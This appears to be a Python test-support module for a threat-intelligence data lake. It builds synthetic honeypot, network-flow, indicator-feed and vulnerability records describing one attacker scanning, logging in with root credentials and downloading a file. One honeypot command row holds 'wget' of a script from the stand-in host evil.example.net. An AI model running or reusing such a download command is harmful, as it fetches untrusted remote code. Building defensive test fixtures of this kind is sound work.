"""A small lake in which one attacker, one tool and one vulnerability stand in every kind of evidence."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pyarrow as pa

from noroshi.ask.pivot import Own, Pivots
from noroshi.lake.handle import Lake
from noroshi.model import address
from noroshi.model.observable import key64
from noroshi.model.sensor import Batch
from noroshi.model.tables import TABLES
from noroshi.model.tlp import Tlp
from tests.support.memory import flow

BEGIN = datetime(2024, 4, 1, 12, tzinfo=UTC)
ATTACKER, OTHER, VICTIM, DARK, SERVER = (
    "203.0.113.7",
    "203.0.113.9",
    "198.51.100.4",
    "192.0.2.1",
    "198.51.100.80",
)
HASSH = "92674389fa1e47a27ddd8d9b63ecd42b"
SHA256 = "5d41402abc4b2a76b9719d911017c5925d41402abc4b2a76b9719d911017c592"
CPE = "cpe:2.3:a:acme:gateway:1.2:*:*:*:*:*:*:*"
BARE = "cpe:2.3:a:acme:gateway:*:*:*:*:*:*:*:*"
CVE, PURL = "CVE-2024-12345", "pkg:pypi/gateway"
URL, HOST = "http://evil.example.net/x.sh", "evil.example.net"

_ZERO: dict[str, Any] = {
    "address": address.pack("0.0.0.0"), "string": "", "bool": False, "int16": 0, "int32": 0, "int64": 0,
    "float64": 0.0, "ts": BEGIN, "date": date(2024, 4, 1), "strings": [],
}  # fmt: skip


def at(seconds: float = 0, days: float = 0) -> datetime:
    """A moment after BEGIN."""
    return BEGIN + timedelta(days=days, seconds=seconds)


def batch(table: str, *rows: dict[str, Any]) -> Batch:
    """Rows of a table: addresses as text, what may not be null and is not given as nothing."""
    schema = TABLES[table].arrow()
    schema = schema.remove(schema.get_field_index("run_id"))
    made = []
    for number, row in enumerate(rows):
        full: dict[str, Any] = {"offset": number * 100}
        for column in TABLES[table].columns:
            value = row.get(column.name)
            if column.type == "address" and isinstance(value, str):
                value = address.pack(value)
            if value is None and not column.nullable and column.name != "offset":
                value = "amber" if column.name == "tlp" else _ZERO[column.type]
            if column.name != "run_id" and (value is not None or column.name not in full):
                full[column.name] = value
        assert not set(row) - set(full), f"{table} has no column {set(row) - set(full)}"
        made.append(full)
    return Batch(table, pa.Table.from_pylist(made, schema=schema))


def flows(*rows: dict[str, Any]) -> list[Batch]:
    """Rows of flows (tests.support.memory.flow), and the links their decoder would count."""
    schema = TABLES["flows"].arrow()
    schema = schema.remove(schema.get_field_index("run_id"))
    links: dict[tuple[str, date], dict[str, Any]] = {}
    for row in rows:
        text, day = address.text(row["src_ip"]), row["first_seen"].date()
        link = links.setdefault((text, day), {
            "key": key64("ip", text), "kind": "ip", "value": text, "role": "src", "table": "flows", "day": day,
            "first_seen": row["first_seen"], "last_seen": row["last_seen"], "count": 0, "tlp": None,
        })  # fmt: skip
        link["first_seen"] = min(link["first_seen"], row["first_seen"])
        link["last_seen"] = max(link["last_seen"], row["last_seen"])
        link["count"] += row["packet_count"]
    rows_schema = TABLES["links"].arrow()
    rows_schema = rows_schema.remove(rows_schema.get_field_index("run_id"))
    return [
        Batch(
            "flows",
            pa.Table.from_pylist([{k: v for k, v in r.items() if k != "run_id"} for r in rows], schema),
        ),
        Batch("links", pa.Table.from_pylist(list(links.values()), rows_schema)),
    ]


def store(lake: Lake, source: str, *batches: Batch, tlp: Tlp = Tlp.GREEN) -> str:
    """One run; its id."""
    with lake.writer() as writer:
        run = writer.begin(path=source, source=source, format="test", parser_version=1, tlp=tlp)
        for one in batches:
            run.write(one)
        run.finish(sha256=(source.encode().hex() + "0" * 64)[:64], size=1)
        return run.run_id


def scan(src: str, n: int, day: float = 0, count: int = 2) -> list[dict[str, Any]]:
    """n rows of one source, a minute apart."""
    return [
        flow(src, f"192.0.2.{1 + i % 200}", at=day * 86_400 + 60 * i, dport=23, count=count) for i in range(n)
    ]


def story(path: Path) -> Lake:
    """The attacker scans, logs in, brings a file; others list it; a gateway is exposed, vulnerable and contained."""
    lake = Lake.open(path)
    store(lake, "telescope", *flows(*scan(ATTACKER, 120), *scan(ATTACKER, 30, day=2), *scan(OTHER, 3)))
    session = {"session_id": "s1", "src_ip": ATTACKER, "decoy": "pot"}
    store(
        lake, "pot",
        batch("sessions", {**session, "first_seen": at(5), "last_seen": at(90), "hassh": HASSH, "dst_ip": SERVER},
              {"session_id": "s2", "src_ip": OTHER, "first_seen": at(9), "last_seen": at(20), "hassh": HASSH,
               "dst_ip": SERVER}),
        batch("logins", {**session, "ts": at(6), "username": "root", "password": "hunter2", "dst_ip": SERVER},
              {**session, "ts": at(7), "username": "root", "password": "other", "dst_ip": SERVER}),
        batch("commands", {**session, "ts": at(8), "text": f"wget {URL}; CVE", "mentions": [f"url {URL}"]}),
        batch("transfers", {**session, "ts": at(10), "url": "HTTP://Evil.example.NET:80/x.sh", "sha256": SHA256,
                            "direction": "download", "success": True}),
    )  # fmt: skip
    store(
        lake, "feed",
        batch("indicators",
              {"ts": at(100), "kind": "ip", "value": ATTACKER, "role": "c2", "document": "d1", "origin": "CERT",
               "tlp": "green"},
              {"ts": at(100), "kind": "domain", "value": HOST, "role": "download", "document": "d1",
               "origin": "CERT", "tlp": "green"},
              {"ts": at(100), "kind": "domain", "value": "secret.example.org", "role": "c2", "document": "d2",
               "origin": "CERT", "tlp": "red"},
              {"ts": at(100), "kind": "ip", "value": ATTACKER, "role": "victim", "document": "d2",
               "origin": "CERT", "tlp": "red"}),
        batch("warnings", {"ts": at(), "list": "resolvers", "kind": "prefix", "value": "203.0.113.8/31",
                           "match": "prefix", "category": "known"},
              {"ts": at(), "list": "top", "kind": "domain", "value": "example.net", "match": "below",
               "category": "false-positive"}),
        batch("networks", {"ts": at(), "low": "203.0.113.0", "high": "203.0.113.255", "prefix": "203.0.113.0/24",
                           "asn": "AS64500", "as_name": "Example", "country": "JP"}),
    )  # fmt: skip
    store(
        lake, "survey",
        batch("services", {"ts": at(50), "ip": SERVER, "port": 443, "protocol": 6, "state": "open", "cpes": [CPE],
                           "scanner": "nmap"}),
        batch("vulnerabilities", {"ts": at(20), "id": CVE, "origin": "cve", "published": at(-86_400)},
              {"ts": at(30), "id": CVE, "origin": "kev", "kev": True}),
        batch("affected", {"ts": at(20), "id": CVE, "origin": "cve", "cpe": BARE, "status": "affected"},
              {"ts": at(20), "id": CVE, "origin": "osv", "purl": PURL, "status": "affected"}),
        batch("components", {"ts": at(40), "document": "urn:sbom:1", "product": "Router X", "product_version": "9",
                             "name": "gateway", "purl": f"{PURL}@1.2"}),
        batch("assets", {"ts": at(), "kind": "prefix", "value": "198.51.100.0/24", "name": "Campus",
                         "owner": "Library", "contact": "lib@example.org"}),
    )  # fmt: skip
    return lake


def pivots(lake: Lake, **how: Any) -> Pivots:
    """Of the lake as it is now."""
    return Pivots(lake.snapshot(), Own(("198.51.100.0/24",), (("campus", ("192.0.2.0/24",)),)), **how)
